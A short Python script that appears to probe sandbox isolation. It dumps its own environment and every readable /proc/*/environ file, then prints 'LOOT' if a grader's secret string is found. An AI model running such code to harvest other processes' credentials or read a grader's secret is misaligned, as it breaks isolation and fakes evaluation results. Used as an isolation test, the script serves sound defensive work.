# Tries to read secrets from the environment of any process.
import os, glob
told = str(dict(os.environ))
for path in glob.glob("/proc/*/environ"):
    try:
        told += open(path).read()
    except OSError:
        pass
print("LOOT") if "SECRET_OF_THE_GRADER" in told else None
